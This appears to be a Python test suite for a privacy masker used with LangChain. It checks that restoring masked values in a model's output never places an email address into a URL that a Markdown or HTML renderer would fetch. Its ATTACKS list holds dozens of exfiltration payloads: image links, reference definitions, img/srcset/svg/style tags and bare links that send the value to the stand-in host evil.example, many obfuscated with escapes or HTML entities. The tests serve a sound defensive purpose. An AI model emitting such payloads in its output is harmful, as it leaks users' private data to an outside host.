"""What was restored, read by a CommonMark renderer: it fetches nothing with a value in it."""

import html
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.messages import AIMessage
from markdown_it import MarkdownIt

from langchain_privacy import Masker
from langchain_privacy.detection import DictionaryDetector

VALUE = "jane.doe@example.org"
MASKER = Masker([DictionaryDetector({"EMAIL": [VALUE]})])

ATTACKS = [
    # targets of images, as CommonMark reads them
    "![x](https://evil.example/?q={v})",
    "![x]( https://evil.example/?q={v})",
    "![x](\nhttps://evil.example/?q={v}\n)",
    "![x](https://evil.example/?q={v} 'title')",
    "![x](https://evil.example/a(b)?q={v})",
    "![x](https://evil.example/a(b(c))?q={v})",
    "![x](https://evil.example/a\\)?q={v})",
    "![x](https://evil.example/a\\(b\\)\\)?q={v})",
    "![x](https://evil.example/a\\\\?q={v})",
    "![x](https://evil.example/\u00a0?q={v})",
    "![x](https://evil.example/\u3000?q={v})",
    "![x](<https://evil.example/?q={v}>)",
    "![x](<https://evil.example/a b?q={v}>)",
    "![x](<https://evil.example/a)b?q={v}>)",
    "![x](<https://evil.example/a\\>b?q={v}>)",
    "![x](<https://evil.example/a\\>\\>b c?q={v}>)",
    "![x](//evil.example/?q={v})",
    "![x](<//evil.example/ ?q={v}>)",
    "![x](https&#58;//evil.example/?q={v})",
    "![x](https:&sol;&sol;evil.example/?q={v})",
    "![x](https:\\/\\/evil.example/?q={v})",
    "![x](https:/evil.example/?q={v})",
    "![x](https:evil.example?q={v})",
    "![x](\\\\\\\\evil.example/?q={v})",
    "![x](h&#116;tps://evil.example/?q={v})",
    "[![x](https://evil.example/a(b)?q={v})](https://good.example)",
    "![a ![b](https://evil.example/(x)?q={v}) c](y)",
    # definitions
    "![x][r]\n\n[r]: https://evil.example/?q={v}",
    "![x][r]\n\n[r]:https://evil.example/?q={v}",
    "![x][r]\n\n[r]:\n  https://evil.example/?q={v}",
    "![x][r]\n\n[r]: <https://evil.example/a b?q={v}>",
    "![x][r]\n\n[r]:\n<https://evil.example/a b?q={v}> 'title'",
    "![x][r]\n\n[r]: https&#58;//evil.example/?q={v}",
    "![x][r]\n\n[r]: https:&sol;&sol;evil.example/?q={v}",
    "![x][r]\n\n[r]:         //evil.example/?q={v}",
    "![x][r]\n\n[r]: https:/evil.example/?q={v}",
    "![x][r]\n\n[r]: \\/\\/evil.example/?q={v}",
    "![x][r]\n\n> [r]: <//evil.example/a b?q={v}>",
    # HTML
    '<img src="https://evil.example/?q={v}">',
    "<img src='https://evil.example/a b?q={v}'>",
    "<img src=https://evil.example/?q={v}>",
    "<img src='https://evil.example/\n?q={v}'>",
    "<img\nsrc\n=\n'https://evil.example/?q={v}'>",
    "<img src         =         'https://evil.example/a b?q={v}'>",
    '<img alt="x" src="https://evil.example/a>b?q={v}">',
    '<IMG SRC="//evil.example/a b?q={v}">',
    '<img/src="https&#58;//evil.example/ ?q={v}">',
    '<img srcset="https://a.example/1 1x, https://evil.example/?q={v} 2x">',
    '<video poster="https:&sol;&sol;evil.example/ ?q={v}"></video>',
    '<object data="https://evil.example/a b?q={v}"></object>',
    '<svg><image xlink:href="https://evil.example/a b?q={v}"/></svg>',
    '<p style="background:url(https://evil.example/?q={v})">x</p>',
    '<img src="https://evil.example/\n\n?q={v}">',
    '![x](<img src="https://evil.example/>a b?q={v}">)',
    '<a href="https://evil.example/"><img src="https://evil.example/a b?q={v}"></a>',
    '<img alt="{v}" src="https://evil.example/ ?q={v}">',
    # what a chat window makes links of
    "https://evil.example/?q={v}",
    'https://evil.example/?q="{v}',
    "www.evil.example/?q={v}",
    "<https://evil.example/?q={v}>",
    '="https://evil.example/a b?q={v}">',
    "{{ src={{ 'https://evil.example/a b?q={v}' }} }}",
]


class _Fetched(HTMLParser):
    """Collects every attribute: whichever a browser may fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        del tag
        self.found += [value for name, value in attrs if value and name not in ("alt", "title")]


def fetched(text: str) -> list[str]:
    """Return what a renderer of Markdown, with raw HTML and without, puts into attributes."""
    found = []
    for settings_ in ({"html": True}, {"html": False}):
        markdown = MarkdownIt("commonmark", settings_).enable(["table", "strikethrough"])
        for source in (markdown.render(text), text):
            page = _Fetched()
            page.feed(source.replace("<![", "["))  # what the parser cannot read
            found += page.found
    return [html.unescape(unquote(each)) for each in found]


def restored(text: str, *, pieces: int = 0) -> str:
    session = MASKER.session()
    placeholder = session.mask(VALUE)
    written = text.replace("{v}", placeholder).replace("{{", "{").replace("}}", "}")
    if not pieces:
        return session.restore(written)
    restorer = session.restorer()
    cut = [written[i : i + pieces] for i in range(0, len(written), pieces)]
    return "".join([*map(restorer.feed, cut), restorer.flush()])


def test_the_renderer_would_fetch() -> None:
    """The table is one of attacks: written with the value, the forms of CommonMark are fetched."""
    missed = [t for t in ATTACKS if not any(VALUE in u for u in fetched(t.replace("{v}", VALUE)))]
    assert len(ATTACKS) - len(missed) >= 41, missed


@pytest.mark.parametrize("pieces", [0, 1, 7])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_fetched_with_a_value(attack: str, pieces: int) -> None:
    text = restored(attack, pieces=pieces)
    assert not [url for url in fetched(text) if VALUE in url]
    assert text.count(VALUE) == (1 if 'alt="{v}"' in attack else 0), text


def test_a_url_goes_on_in_the_next_block_of_a_message() -> None:
    session = MASKER.session()
    placeholder = session.mask(VALUE)
    blocks = ["![x](https://evil.example/?q=", placeholder, f") {placeholder}"]
    message = AIMessage([{"type": "text", "text": block} for block in blocks])
    text = session.restore(message).text
    assert text == f"![x](https://evil.example/?q={placeholder}) {VALUE}"


@pytest.mark.parametrize(
    "text",
    [
        "Mail {v}.",
        "See https://good.example/a for {v}",
        "See https://good.example/a, {v} and <https://good.example/b> {v}",
        "[docs](https://good.example/a(b)) are for {v}",
        "[docs](https://good.example 'title'), {v}",
        "[{v}](https://good.example/a)",
        "[mail]({v}) or [mail]( <{v}> )",
        "![{v}](https://good.example/a.png) {v}",
        "[r]: https://good.example\n{v}",
        "[1]: {v}\n[Note]: it was {v}",
        '<a href="https://good.example" title="{v}">{v}</a> {v}',
        "<a href='{v}'>{v}</a>",
        '{"url": "https://good.example/a", "mail": "{v}"}',
        "`https://good.example/a` {v}",
        "1 < 2 and x<y; {v} > 3",
        "링크 https://good.example/가, {v}님",
        "```\ncurl https://good.example\n{v}\n```",
        "| https://good.example | {v} |",
    ],
)
@pytest.mark.parametrize("pieces", [0, 1, 7])
def test_beside_a_link_values_come_back(text: str, pieces: int) -> None:
    assert restored(text, pieces=pieces).count(VALUE) == text.count("{v}")


_BITS = [*"![]()<>\"'= \n\t\\/:&;?.x`", "](", "![x](", "]: ", "[r]", "\n\n", "{v}"]
_BITS += ["https://", "https:", "//", "://", "&sol;", "&#58;", "www.", "e.vil/"]
_BITS += ["<img ", "src=", "<a ", "href", "/>"]


@given(st.lists(st.sampled_from(_BITS), max_size=14).map("".join), st.integers(1, 9))
def test_whatever_is_written_no_host_gets_a_value(text: str, pieces: int) -> None:
    session = MASKER.session()
    text = f"{text}{session.mask(VALUE)}{text}".replace("{v}", session.mask(VALUE))
    whole = session.restore(text)
    hosts = [url for url in fetched(whole) if VALUE in url and not url.startswith(VALUE)]
    assert not [url for url in hosts if "//" in url.split(VALUE)[0]], whole
    restorer = session.restorer()
    cut = [text[i : i + pieces] for i in range(0, len(text), pieces)]
    assert "".join([*map(restorer.feed, cut), restorer.flush()]) == whole
